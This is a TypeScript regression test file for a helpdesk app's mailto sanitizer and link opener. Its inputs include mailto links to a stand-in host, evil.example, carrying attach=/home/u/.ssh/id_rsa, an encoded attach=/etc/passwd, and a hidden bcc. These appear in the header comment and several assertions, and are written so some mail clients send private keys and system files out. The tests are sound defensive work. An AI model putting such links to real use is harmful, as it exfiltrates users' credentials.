// Defect 8 (issue 12): a mailto: link keeps only the fields a mail link needs (to, cc,
// subject, body). `mailto:x@evil.example?attach=/home/u/.ssh/id_rsa` used to pass both the
// sanitizer and the link opener, and some mail clients attach the named file.
import * as assert from 'node:assert/strict';
import { cleanMailto } from '../../src/helpdesk/render/mailto';
import { renderBody } from '../../src/helpdesk/render/sanitize';
import { isSafeExternalUrl } from '../../src/ui/safeUrl';

const blocked = { allowRemoteImages: false };

function hrefs(html: string): string[] {
  return [...html.matchAll(/href="([^"]*)"/g)].map((match) => (match[1] ?? '').replace(/&amp;/g, '&'));
}

describe('reliability: mailto links keep only to/cc/subject/body (defect 8)', () => {
  it('drops every other field, however it is spelled', () => {
    assert.equal(cleanMailto('mailto:x@evil.example?attach=/home/u/.ssh/id_rsa'), 'mailto:x@evil.example');
    assert.equal(
      cleanMailto('mailto:x@e.example?subject=Hi%20there&attach=a&body=B&cc=c@e.example&bcc=spy@e.example&Attachment=b'),
      'mailto:x@e.example?subject=Hi%20there&body=B&cc=c@e.example',
    );
    assert.equal(cleanMailto('MAILTO:x@e.example?%61ttach=/etc/passwd&SUBJECT=s'), 'MAILTO:x@e.example?SUBJECT=s');
    assert.equal(cleanMailto('mailto:?to=a@e.example&attach=x'), 'mailto:?to=a@e.example');
    assert.equal(cleanMailto('mailto:x@e.example?attach&subject'), 'mailto:x@e.example?subject');
    assert.equal(cleanMailto('mailto:x@e.example?%zz=1&body=ok'), 'mailto:x@e.example?body=ok');
    assert.equal(cleanMailto('mailto:x@e.example#frag?attach=x'), 'mailto:x@e.example');
    assert.equal(cleanMailto('mailto:ada@example.com'), 'mailto:ada@example.com');
  });

  it('sanitizes mailto links in HTML, Markdown and BBCode bodies', () => {
    const bad = 'mailto:x@evil.example?subject=Hi&attach=/home/u/.ssh/id_rsa';
    assert.deepEqual(hrefs(renderBody(`<a href="${bad}">mail</a>`, 'html', blocked).html), ['mailto:x@evil.example?subject=Hi']);
    assert.deepEqual(hrefs(renderBody(`[mail](${bad})`, 'markdown', blocked).html), ['mailto:x@evil.example?subject=Hi']);
    assert.deepEqual(hrefs(renderBody(`[url=${bad}]mail[/url]`, 'bbcode', blocked).html), ['mailto:x@evil.example?subject=Hi']);
  });

  it('lets the link opener refuse a mailto: with any other field', () => {
    assert.equal(isSafeExternalUrl('mailto:x@evil.example?attach=/home/u/.ssh/id_rsa'), false);
    assert.equal(isSafeExternalUrl('mailto:x@e.example?bcc=spy@e.example'), false);
    assert.equal(isSafeExternalUrl('mailto:x@e.example?subject=Hi&body=There&cc=c@e.example'), true);
    assert.equal(isSafeExternalUrl('mailto:ada@example.com'), true);
  });
});
